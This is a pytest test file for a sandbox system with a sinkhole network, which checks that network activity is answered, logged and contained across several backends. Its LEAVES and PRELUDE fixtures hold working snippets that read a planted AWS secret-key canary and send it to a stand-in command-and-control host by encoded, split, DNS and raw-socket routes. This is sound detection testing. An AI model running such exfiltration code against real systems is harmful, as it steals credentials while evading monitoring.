"""The simulated network through real sandboxes: it answers everything, tells what came, and leads nowhere."""

from __future__ import annotations

import functools
import os
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest

from gate.model.behaviour import Behaviour, BehaviourKind
from gate.model.run import Capability, RunRecord, SandboxSpec
from gate.sandbox import canaries
from gate.sandbox.backends.gvisor import setup
from gate.sandbox.backends.microvm import guest_session
from gate.sandbox.backends.registry import BACKENDS
from gate.sandbox.sinkhole_host import link
from gate.sandbox.sinkhole_host import session as sinking
from gate.sandbox.sinkhole_host.slots import Sinkhole
from gate.tracing.behaviour.reduction import behaviours
from gate.tracing.behaviour.sinkhole import UNSEEN, UNTRACED
from gate.tracing.diff import compare
from gate.tracing.readers.sinkhole import DnsQuery, HttpRequest, TlsHandshake, read_log
from tests.contract.backend_contract import probe
from tests.contract.capabilities import capability
from tests.contract.trees import DictTree

pytestmark = [pytest.mark.backend, pytest.mark.slow]
BACKEND_NAMES = ("gvisor", "docker", "bubblewrap", "microvm")
PLANTED = canaries.plant()
KEY = next(c.secrets[0] for c in PLANTED if c.name == "env:AWS_SECRET_ACCESS_KEY")


def _skip_what_is_not_tried(found: Capability) -> None:
    if not found.available:
        pytest.skip(f"{found.backend}: {found.reason}")
    slow = found.backend == "microvm" and found.reserve
    if slow and not os.environ.get("GATE_TEST_SLOW_BACKENDS"):
        pytest.skip(f"{found.backend}: {found.reserve}; GATE_TEST_SLOW_BACKENDS=1 runs it")


def _deadline(backend: str) -> float:
    """Seconds; a processor in software takes its time to import a client."""
    return 90.0 if capability(backend).reserve else 10.0


class Ran:
    """One run's record and everything made of it while its files existed."""

    def __init__(self, record: RunRecord) -> None:
        assert record.fault is None, record.fault
        assert record.completeness.whole, (record.completeness, record.stderr)
        self.record = record
        self.log = read_log(record.network)
        self.seen = behaviours(record, PLANTED)

    def of(self, kind: str) -> dict[str, Behaviour]:
        return {b.subject: b for b in self.seen if b.kind is BehaviourKind(kind)}

    @property
    def out(self) -> str:
        return self.record.stdout.decode() + self.record.stderr.decode()[-2000:]


@pytest.fixture(params=BACKEND_NAMES)
def backend(request: pytest.FixtureRequest) -> str:
    found = capability(request.param)
    _skip_what_is_not_tried(found)
    return str(request.param)


def _run(backend: str, code: str, deadline: float = 10) -> Ran:
    tree = DictTree(files={"main.py": code})
    with BACKENDS[backend]().open(SandboxSpec(network="sinkhole"), tree, tree) as session:
        return Ran(
            session.run(probe("python3", "main.py", deadline=max(deadline, _deadline(backend))), "head")
        )


CLIENTS = """
import socket, urllib.request
def t(f):
    try: print(f())
    except Exception as e: print(type(e).__name__, e)
t(lambda: urllib.request.urlopen('http://plain.example/x?a=1', b'k=v', timeout=5).read())
t(lambda: urllib.request.urlopen('https://secure.example/stage2.sh', timeout=5).read())
t(lambda: urllib.request.urlopen('http://gone.example/p.tar.gz', timeout=5).read())
def raw(where, data, answer=0):
    with socket.create_connection(where, 5) as s:
        s.sendall(data)
        return s.recv(answer) if answer else b''
t(lambda: raw(('203.0.113.7', 4444), b'hello'))
t(lambda: raw(('2001:db8::7', 4444), b'hello6'))
t(lambda: raw(('mail.example', 25), b'EHLO x\\r\\nMAIL FROM:<a@b.example>\\r\\n', 5))
t(lambda: raw(('192.0.2.9', 445), b'x', 1))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(('192.0.2.8', 9000)); u.send(b'datagram')
t(lambda: socket.gethostbyname('single.example').startswith('198.1'))
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.settimeout(5)
query = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x03txt\\x07example\\x00\\x00\\x10\\x00\\x01'
u.sendto(query, ('2001:db8::53', 53)); t(lambda: b'spf1' in u.recvfrom(999)[0])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(query, ('198.51.100.53', 53)); t(lambda: u.recvfrom(999)[1])
"""


@pytest.fixture(scope="module", params=BACKEND_NAMES)
def clients(request: pytest.FixtureRequest) -> Ran:
    found = capability(request.param)
    _skip_what_is_not_tried(found)
    return _run(str(request.param), CLIENTS)


def test_clients_get_plausible_answers(clients: Ran) -> None:
    assert clients.record.stdout.decode().splitlines() == [
        "b'{}'",
        repr(b"#!/bin/sh\n:\n"),
        "HTTPError HTTP Error 404: Not Found",
        "b''",
        "b''",
        "b'220 m'",
        "ConnectionResetError [Errno 104] Connection reset by peer",
        "True",
        "True",
        "('198.51.100.53', 53)",
    ], clients.out


def test_connections_have_their_names(clients: Ran) -> None:
    made = clients.of("connect")
    assert made["plain.example:80"].detail["http"] == "POST /x?a=1 (3 bytes)"
    assert made["secure.example:443"].detail["tls"] == "accepted"
    assert made["203.0.113.7:4444"].detail["head"] == "hello"
    assert made["[2001:db8::7]:4444"].detail["head"] == "hello6"
    assert made["mail.example:25"].detail["head"].startswith("EHLO x")
    assert {made[where].detail["reach"] for where in ("plain.example:80", "mail.example:25")} == {"outside"}
    assert not [subject for subject in made if subject.startswith("198.18.")]


def test_requests_are_told_whole(clients: Ran) -> None:
    (post,) = (event for event in clients.log.events if isinstance(event, HttpRequest) and event.body)
    assert (post.method, post.target, post.body, post.size) == ("POST", b"/x?a=1", b"k=v", 3)
    assert post.header("host") == "plain.example"
    assert set(clients.of("http")) == {
        "POST plain.example/x",
        "GET secure.example/stage2.sh",
        "GET gone.example/p.tar.gz",
    }
    (hello,) = (event for event in clients.log.events if isinstance(event, TlsHandshake))
    assert (hello.sni, hello.ok) == ("secure.example", True)


def test_names_and_datagrams_are_told(clients: Ran) -> None:
    asked = {(event.name, event.qtype) for event in clients.log.events if isinstance(event, DnsQuery)}
    assert {("plain.example", "A"), ("plain.example", "AAAA"), ("txt.example", "TXT")} <= asked
    assert clients.of("dns")["single.example"].actor == "python"
    assert clients.of("send")["192.0.2.8:9000"].detail["head"] == "datagram"


def test_both_observers_agree(clients: Ran) -> None:
    assert clients.of("evade") == {}


_MESSAGES = """
import ctypes, socket, struct
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendmsg([b'one', b'two'], [], 0, ('192.0.2.31', 5301))
libc = ctypes.CDLL(None)
text = ctypes.create_string_buffer(b'three', 5)
to = ctypes.create_string_buffer(struct.pack('>2xH4s8x', 5302, socket.inet_aton('192.0.2.32')), 16)
ctypes.memmove(to, struct.pack('=H', 2), 2)
vector = ctypes.create_string_buffer(struct.pack('=QQ', ctypes.addressof(text), 5))
head = struct.pack('=QI4xQQQQi4x', ctypes.addressof(to), 16, ctypes.addressof(vector), 1, 0, 0, 0)
message = ctypes.create_string_buffer(head + bytes(8))
print(libc.sendmmsg(u.fileno(), message, 1, 0))
"""


def test_datagrams_that_a_tracer_may_not_know_the_address_of_are_told(backend: str) -> None:
    """gVisor's does not tell where sendmsg and sendmmsg send to."""
    ran = _run(backend, _MESSAGES)
    assert ran.out == "1\n"
    assert {"192.0.2.31:5301", "192.0.2.32:5302"} <= ran.of("send").keys()


def test_local_servers_stay_local(backend: str) -> None:
    ran = _run(
        backend,
        "import socket\n"
        "for own, to in (('127.0.0.1', '127.0.0.1'), ('0.0.0.0', '10.0.2.15'), ('::1', '::1')):\n"
        "    s = socket.create_server((own, 0), family=socket.AF_INET6 if ':' in own else socket.AF_INET)\n"
        "    c = socket.create_connection((to, s.getsockname()[1]), 5)\n"
        "    p, _ = s.accept(); p.sendall(b'mine'); print(c.recv(9))\n"
        "try: socket.create_connection(('127.0.0.1', 5432), 5)\n"
        "except ConnectionRefusedError: print('refused')\n",
    )
    assert ran.out == "b'mine'\nb'mine'\nb'mine'\nrefused\n"
    assert not ran.log.connections
    assert ran.of("evade") == {}


def test_nothing_leaves(backend: str) -> None:
    ran = _run(
        backend,
        "print(sorted(l.split(':')[0].strip() for l in open('/proc/net/dev') if ':' in l))\n"
        "print({l.split()[0] for l in list(open('/proc/net/route'))[1:]})\n"
        "print({l.split()[-1] for l in open('/proc/net/ipv6_route')})\n",
    )
    if backend == "gvisor":  # its interface is one end of two pipes, and its kernel was given no other
        assert ran.record.stdout.decode().splitlines()[0] == "['eth0', 'lo']"
        assert "--network=none" in setup.arguments(0)
        assert link.options("", {})["HostConfig"]["NetworkMode"] == "none"
        return
    assert ran.record.stdout.decode().splitlines()[0] == "['lo']"
    assert ran.record.stdout.decode().splitlines()[1] in ("set()", "{'lo'}")
    assert ran.record.stdout.decode().splitlines()[2] == "{'lo'}"


def test_two_sandboxes_have_two_networks(backend: str) -> None:
    code = (
        "import socket, time\n"
        "s = socket.create_server(('0.0.0.0', 4711)); s.settimeout(1.5)\n"
        "time.sleep(0.3); c = socket.create_connection(('203.0.113.7', 4711), 5)\n"
        "try: print(s.accept())\n"
        "except TimeoutError: print('nobody')\n"
    )
    tree = DictTree(files={"main.py": code})
    with (
        BACKENDS[backend]().open(SandboxSpec(network="sinkhole"), tree, tree) as session,
        ThreadPoolExecutor(2) as pool,
    ):
        session.expect(2)
        ran = [
            Ran(r)
            for r in pool.map(
                lambda side: session.run(
                    probe("python3", "main.py", deadline=_deadline(backend)), "base" if side else "head"
                ),
                (0, 1),
            )
        ]
    for one in ran:
        assert one.out == "nobody\n"
        assert [made.addr for made in one.log.connections.values()] == ["203.0.113.7"]


LEAVES = {
    "body": "post(key)",
    "body-base64": "post(base64.b64encode(b'xx' + key))",
    "body-gzip": "post(gzip.compress(b'data ' + key))",
    "body-xor": "post(bytes(b ^ 0x5a for b in key))",
    "body-over-tls": "post(key, 'https')",
    "header": "get('/', {'X-Trace': key.hex()})",
    "agent-split": "[get('/', {'User-Agent': key[i:i+8].decode()}) for i in range(0, 40, 8)]",
    "query": "get('/?d=' + urllib.parse.quote(key))",
    "query-split": "[get(f'/?n={i}&d=' + key[i:i+5].decode()) for i in range(0, 40, 5)]",
    "path-split": "[get('/c/' + key[i:i+8].decode()) for i in range(0, 40, 8)]",
    "dns-hex": "socket.gethostbyname(key[:20].hex() + '.' + key[20:].hex() + '.c2.example')",
    "dns-split": "[socket.gethostbyname(f'{i}.{key[i:i+8].hex()}.c2.example') for i in range(0, 40, 8)]",
    "raw": "raw(b'PUSH ' + key)",
    "raw-split": "raw(*(key[i:i+7] for i in range(0, 40, 7)))",
    "raw-reversed": "raw(key[::-1])",
    "datagram": "u.sendto(base64.b85encode(b'') + key.hex().encode(), ('203.0.113.9', 5000))",
    "connected-datagram": "(u.connect(('203.0.113.9', 5000)), u.send(key))",
}
PRELUDE = """
import base64, gzip, os, socket, time, urllib.parse, urllib.request
key = os.environ['AWS_SECRET_ACCESS_KEY'].encode()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def post(data, scheme='http'): urllib.request.urlopen(scheme + '://c2.example/in', data, timeout=5).read()
def get(path, headers={}):
    asked = urllib.request.Request('http://c2.example' + path, headers=headers)
    urllib.request.urlopen(asked, timeout=5).read()
def raw(*parts):
    with socket.create_connection(('203.0.113.7', 4444), 5) as s:
        for part in parts: s.sendall(part); time.sleep(0.01)
        s.shutdown(1); s.recv(1)  # until it has arrived: what gVisor holds when its sandbox dies is lost
"""


@functools.cache
def _leaving(backend: str) -> dict[str, Ran | AssertionError]:
    """Every way by its name, each in a sandbox of its own, in one session."""
    tree = DictTree(files={f"{way}.py": f"{PRELUDE}{code}\n" for way, code in LEAVES.items()})
    spec = SandboxSpec(
        network="sinkhole",
        files=canaries.as_files(PLANTED),
        env=canaries.as_environment(PLANTED),
        canaries=PLANTED,
    )
    with BACKENDS[backend]().open(spec, tree, tree) as session, ThreadPoolExecutor(2) as pool:

        def one(way: str) -> Ran | AssertionError:
            try:
                return Ran(session.run(probe("python3", f"{way}.py", deadline=_deadline(backend)), "head"))
            except AssertionError as error:
                return error

        session.expect(len(LEAVES))
        return dict(zip(LEAVES, pool.map(one, LEAVES), strict=True))


@pytest.mark.parametrize("way", LEAVES)
def test_a_canary_is_seen_leaving(way: str, backend: str) -> None:
    ran = _leaving(backend)[way]
    if isinstance(ran, AssertionError):
        raise ran
    assert ran.record.exit_code == 0, ran.out
    seen = {b.detail["canary"] for b in ran.of("canary").values() if b.detail["channel"] != "then-network"}
    assert seen == {"env:AWS_SECRET_ACCESS_KEY"}, [b.subject for b in ran.seen]


def test_a_run_names_the_same_things_each_time(backend: str) -> None:
    code = "import urllib.request as r\n[r.urlopen(f'https://h{i}.example/', timeout=25) for i in range(3)]\n"
    first, other = DictTree(files={"main.py": code}), DictTree(files={"main.py": code + "# other\n"})
    with BACKENDS[backend]().open(SandboxSpec(network="sinkhole"), first, other) as session:
        runs = [session.run(probe("python3", "main.py", deadline=30.0), side) for side in ("base", "head")]
        diff = compare(runs)
    assert (diff.new, diff.gone) == ((), ())
    assert diff.unchanged_count >= 9


def test_a_flood_is_counted_and_bounded(backend: str) -> None:
    code = (
        "import socket\n"
        "for i in range(300):\n"
        "    with socket.create_connection(('203.0.113.7', 1000 + i), 5) as s: s.sendall(b'x' * 100_000)\n"
    )
    ran = _run(backend, code, deadline=90)  # gVisor's packets pass through four programs
    assert len(ran.log.connections) == 300
    assert ran.log.cut >= 200
    assert ran.of("evade") == {}


def test_a_connection_that_only_one_observer_saw_is_told(backend: str) -> None:
    code = "import socket\nsocket.create_connection(('203.0.113.{}', 4444), 5).close()\n"
    one, other = DictTree(files={"main.py": code.format(7)}), DictTree(files={"main.py": code.format(8)})
    with BACKENDS[backend]().open(SandboxSpec(network="sinkhole"), one, other) as session:
        base, head = (
            session.run(probe("python3", "main.py", deadline=_deadline(backend)), side)
            for side in ("base", "head")
        )
        mixed = behaviours(replace(base, network=head.network))
        alone = behaviours(base)
    told = {(b.subject, b.detail["to"]) for b in mixed if b.kind is BehaviourKind.EVADE}
    assert told == {(UNTRACED, "203.0.113.8:4444"), (UNSEEN, "203.0.113.7:4444")}
    assert BehaviourKind.EVADE not in {b.kind for b in alone}


def test_a_failing_sinkhole_is_a_fault(backend: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Said, and never run without."""
    serve = Sinkhole.serve
    monkeypatch.setattr(Sinkhole, "serve", lambda self, _: serve(self, 2**22 + 1))  # no such process
    monkeypatch.setattr(sinking, "_TUN", "/dev/null")
    settings = guest_session._settings
    monkeypatch.setattr(guest_session, "_settings", lambda *given: {**settings(*given), "authority": "AAAA"})
    empty = DictTree(files={})
    with BACKENDS[backend]().open(SandboxSpec(network="sinkhole"), empty, empty) as session:
        record = session.run(probe("python3", "-c", "pass"), "head")
    assert record.fault is not None
    assert ("guest: " if backend == "microvm" else "no sinkhole") in record.fault


FAILING = """
import urllib.request
for host in ('one.example', 'one.example', 'one.example', 'two.example'):
    try: print(urllib.request.urlopen('http://' + host + '/', timeout=5).status)
    except OSError as e: print(getattr(e, 'code', 'closed'))
"""


def test_the_first_requests_fail_where_a_probe_asks(backend: str) -> None:
    tree = DictTree(files={"main.py": FAILING})
    plain = replace(probe("python3", "main.py", '{"failures": 2}', deadline=_deadline(backend)), driver=True)
    with BACKENDS[backend]().open(SandboxSpec(network="sinkhole"), tree, tree) as session:
        first = Ran(session.run(plain, "head"))
        failing = Ran(session.run(replace(plain, condition="while the network fails"), "head"))
    assert first.record.stdout.split() == [b"200"] * 4
    assert failing.record.stdout.split() == [b"503", b"503", b"200", b"503"]
